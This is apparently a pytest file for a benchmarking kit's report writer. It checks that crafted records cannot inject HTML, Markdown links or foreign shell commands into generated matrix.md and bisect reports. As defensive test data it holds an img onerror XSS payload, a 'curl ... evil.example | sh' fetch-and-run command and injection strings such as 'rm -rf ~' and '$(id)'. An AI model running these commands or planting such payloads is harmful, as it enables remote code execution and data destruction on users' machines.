"""Record fields printed into matrix.md (and a bisect report's Reproduce line) stay text: no markup gets in.

Crafted records once injected markup: a backtick in ``reproduce`` ended the
code span, a raw ``<a href>`` rendered as a link, a cell's command ended in
``curl ... | sh``, and HTML in ``cpu_model`` passed through. Now every field
is escaped where it is printed (`kit.markdown_text`), and only commands of
the kit's own shape are shown (`kit.matrix.reproduce.kit_shaped`).
docs/faults.md, "Untrusted input and the kit's folders".
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Callable

import pytest

from kit.bisect.report import changelog
from kit.markdown_text import code, text
from kit.matrix.report import write_report
from kit.matrix.reproduce import kit_shaped
from tests.bisect_machine import CHECKS, report_json, run
from tests.fake_releases import FakeReleases
from tests.record_samples import make_record

LINK = '<a href="https://evil.example/x">click</a>'


def _hostile_records(results: Path) -> None:
    results.mkdir(parents=True)
    records = {
        "backtick.json": make_record(reproduce="nox -s scaling-0.4.35` " + LINK + " `",
                                     metrics={"<b>t|x</b>": {"unit": "`ms", "samples": [1.0, 2.0, 3.0]}}),
        "pipe.json": make_record(requested={"jax": "0.5.0", "backend": "cpu"},
                                 reproduce="nox -s scaling-0.5.0 && curl -s https://evil.example/i | sh"),
        "html.json": make_record(requested={"jax": "0.6.0", "backend": "cpu"}, status="crashed", verdict=None,
                                 reason="died " + LINK + " [x](https://evil.example) **loud** | extra cell",
                                 environment={"backend": "cpu", "cpu_model": "<img src=x onerror=alert(1)>"}),
    }
    for name, record in records.items():
        (results / name).write_text(json.dumps(record))


def _cells(row: str) -> list[str]:
    """A table row's cells as GitHub splits them: at every '|' not escaped with a backslash."""
    return re.split(r"(?<!\\)\|", row.strip().strip("|"))


def test_crafted_records_put_no_markup_and_no_foreign_command_into_matrix_md(tmp_path: Path) -> None:
    _hostile_records(tmp_path / "results")
    markdown = write_report(tmp_path / "results", tmp_path / "out", plots=False).markdown.read_text()
    assert "<a " not in markdown
    assert "<img" not in markdown
    assert "<b>" not in markdown and "| &lt;b&gt;t\\|x&lt;/b&gt; (\\`ms) |" in markdown, "a metric's name is text too"
    assert "[x](https://evil" not in markdown and "[x\\](https://evil" in markdown, "a link's ] is escaped"
    assert "curl" not in markdown, "a command of another shape is not shown"
    assert "&lt;a href=" in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown, "shown as text"
    matrix_section = markdown.split("## Matrix", 1)[1].split("## Metrics", 1)[0]
    rows = [line for line in matrix_section.splitlines() if line.startswith("| 0.")]
    header = next(line for line in markdown.splitlines() if line.startswith("| Release"))
    assert len(rows) == 3 and all(len(_cells(row)) == len(_cells(header)) for row in rows), rows
    by_release = {_cells(row)[0].strip(): _cells(row) for row in rows}
    assert by_release["0.5.0"][-1].strip() == "`nox -s scaling-0.5.0`", "the record's plain session instead"
    assert by_release["0.4.35"][-1].strip() == "`nox -s scaling-0.4.35`"
    assert "\\*\\*loud\\*\\*" in by_release["0.6.0"][-2]
    assert "\\| extra cell" in by_release["0.6.0"][-2]


@pytest.mark.parametrize("command", ["nox -s a; rm -rf ~", "nox -s a | sh", "nox -s a -- $(curl e)", "curl e | sh",
                                     "nox -s a `id`", 'nox -s a "$(id)"', "nox -s a 'open", "nox -s a\nrm x",
                                     "nox -s ../x", "nox -s a > ~/.bashrc"])
def test_a_command_of_another_shape_is_not_the_kits(command: str) -> None:
    assert not kit_shaped(command)


@pytest.mark.parametrize("command", ["nox -s scaling-0.4.35", "python -m kit run scaling 0.5.0 --devices 1,2",
                                     "nox -s bisect -- --script s.py --bad-if 'TypeError: .*$' --good 0.6.0"])
def test_the_kits_own_commands_keep_their_shape(command: str) -> None:
    assert kit_shaped(command)


def test_a_code_span_holds_any_backticks_and_text_renders_as_its_characters() -> None:
    assert code("a `b` c") == "``a `b` c``"
    assert code("`x") == "`` `x ``"
    assert code("a|b", in_table=True) == "`a\\|b`"
    assert text("<b>&") == "&lt;b&gt;&amp;"
    assert text("all_gathers=1") == "all_gathers=1"
    assert text("[cut 2 kB]") == "[cut 2 kB]"
    assert text("[a](b)") == "[a\\](b)"


def test_a_backtick_in_bad_if_stays_inside_the_bisect_reports_reproduce_span(
        fake_releases: Callable[..., FakeReleases], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(changelog, "fetch_changelog", lambda *args, **kwargs: (None, "offline in the tests"))
    releases = fake_releases(["0.4.35", "0.5.0", "0.6.0"], matrix_releases=["0.4.35", "0.6.0"], checks=CHECKS)
    script = tmp_path / "repro.py"
    script.write_text("import os, sys\nprint('bad `thing`')\nsys.exit(1 if os.environ['FAKE_JAX'] >= '0.5' else 0)\n")
    code_, _log = run(releases, "--script", str(script), "--bad-if", "bad `thing`", "--good", "0.4.35",
                      "--bad", "0.6.0")
    assert code_ == 0
    name = report_json(releases)["name"]
    markdown = (releases.matrix.results_dir.parent / f"bisect-{name}.md").read_text()
    [line] = [line for line in markdown.splitlines() if line.startswith("- **Reproduce:**")]
    span = line[len("- **Reproduce:** "):]
    assert span.startswith("``nox -s bisect") and span.endswith("``"), span  # fenced by more than it holds
    assert "--bad-if 'bad `thing`'" in span
